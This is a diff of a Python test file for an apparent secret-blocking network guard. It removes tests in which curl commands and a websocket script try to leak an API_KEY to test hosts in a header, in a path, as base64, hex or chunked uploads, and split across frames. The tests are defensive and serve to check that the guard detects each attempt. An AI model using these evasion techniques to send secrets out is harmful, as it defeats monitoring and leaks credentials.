@@ -1,4 +1,7 @@
-"""Secrets that the command never holds: from the environment, a file and a descriptor, in real runs of both tiers."""
+"""Secrets that the command never holds: from the environment, a file and a descriptor, in real runs of both tiers.
+
+Where one must not be is `tests/adversarial/test_secrets.py`.
+"""
 
 from __future__ import annotations
 
@@ -17,8 +20,6 @@ POLICY = """\
 version: 1
 allow:
   - host: allowed.test
-  - host: four.test
-    methods: [GET, POST]
 secrets:
   - {SOURCE, hosts: [allowed.test], methods: [GET, POST], PLACE}
 """
@@ -90,43 +91,6 @@ def test_a_server_that_sends_it_back(tier: Tier) -> None:
     (denied,) = [flow for flow in verified(tier, done) if flow["rule"] == "secret"]
     assert denied["url"] == "https://allowed.test/a"
     assert str(denied["reason"]).startswith("the value of API_KEY (plain) is in the response")
-
-
-def test_anywhere_else_it_is_an_alarm(tier: Tier) -> None:
-    """Of another header, path, host and method; of content in base64 at each alignment, and in chunks."""
-    before = len(tier.world.arrived())
-    script = "; ".join(
-        (
-            f'{CURL} -H "x-other: $API_KEY" https://allowed.test/1',
-            f"{CURL} https://allowed.test/$API_KEY",
-            f'{CURL} -H "x-api-key: $API_KEY" https://four.test/3',
-            f'{CURL} -X PUT -H "x-api-key: $API_KEY" https://allowed.test/4',
-            f'{CURL} -H "x-api-key: $API_KEY" http://allowed.test/5',
-            (
-                f'for a in "" x xy; do printf %s "$a$API_KEY" | base64 -w0 |'
-                f" {CURL} --data-binary @- https://allowed.test/6; done"
-            ),
-            (
-                f"(printf %s ${{API_KEY:0:20}}; sleep 0.3; printf %s ${{API_KEY:20}}) |"
-                f" {CURL} -T- -X POST -H Expect: -H 'Transfer-Encoding: chunked' https://allowed.test/7"
-            ),
-            f"printf %s $API_KEY | xxd -p | tr -d '\\n' | {CURL} -d @- http://allowed.test/8",
-        )
-    )
-    done = run(tier, script, policy(), API_KEY=VALUE)
-    assert done.out.count("rule: secret\n") == 10, done.out
-    assert done.out.count("reason: the placeholder of API_KEY (") == 10
-    # What was on its way upstream before the denial was cut there: no server had a whole request.
-    assert [head for head in heads(tier, before) if not head.startswith("POST /")] == []
-    flows = verified(tier, done)
-    denied = [flow for flow in flows if flow["rule"] == "secret"]
-    assert len(denied) == 10
-    assert {str(flow["url"]).rpartition("/")[2] for flow in denied} == {
-        *("1", "[redacted]", "3", "4", "5", "6", "7", "8")
-    }
-    lines = (done.packet / "evidence.jsonl").read_text().splitlines()
-    assert sum('"severity":"high"' in line for line in lines) == 10
-    assert r"the placeholder of API\_KEY" in (done.packet / "summary.md").read_text()
 
 
 def test_a_value_that_the_environment_keeps_is_looked_for(tier: Tier) -> None:
@@ -226,37 +190,3 @@ def test_what_can_not_be_held_back_starts_nothing(
     assert hint in done.err
     assert VALUE not in done.err
     assert not Path(tier.work, "started").exists()
-
-
-WEBSOCKET = r"""
-import os, socket
-def frame(first, data):
-    return bytes((first, 128 | len(data), 0, 0, 0, 0)) + data
-peer = socket.create_connection(("allowed.test", 80), 20)
-peer.sendall(b"GET /ws HTTP/1.1\r\nHost: allowed.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
-             b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n")
-while not peer.recv(4096).endswith(b"\r\n\r\n"):
-    pass
-key = os.environ["API_KEY"].encode()
-peer.sendall(frame(1, key[:9]) + frame(0x89, b"a ping between") + frame(0x80, key[9:]))
-said = b""
-while piece := peer.recv(4096):
-    said += piece
-print(said[-100:])
-"""
-
-
-def test_in_the_frames_of_a_websocket(tier: Tier) -> None:
-    """Split over two frames, with another one between them: a server would have it whole."""
-    before = len(tier.world.arrived())
-    done = run(tier, f"/usr/bin/python3 -c '{WEBSOCKET}'", policy(), API_KEY=VALUE)
-    assert "sluicegate: refused: " in done.out, done.out
-    assert "API_KEY" in done.out
-    tier.world.settle()
-    came = [e for e in tier.world.arrived()[before:] if e["protocol"] == "websocket"]
-    assert not [entry for entry in came if any(len(said) > 14 for said in entry["said"])]
-    flows = verified(tier, done)
-    (block,) = [flow for flow in flows if flow["rule"] == "secret"]
-    assert block["url"] == "http://allowed.test/ws"
-    (end,) = [flow for flow in flows if "frames_up" in flow]
-    assert end["outcome"].startswith("refused: ")
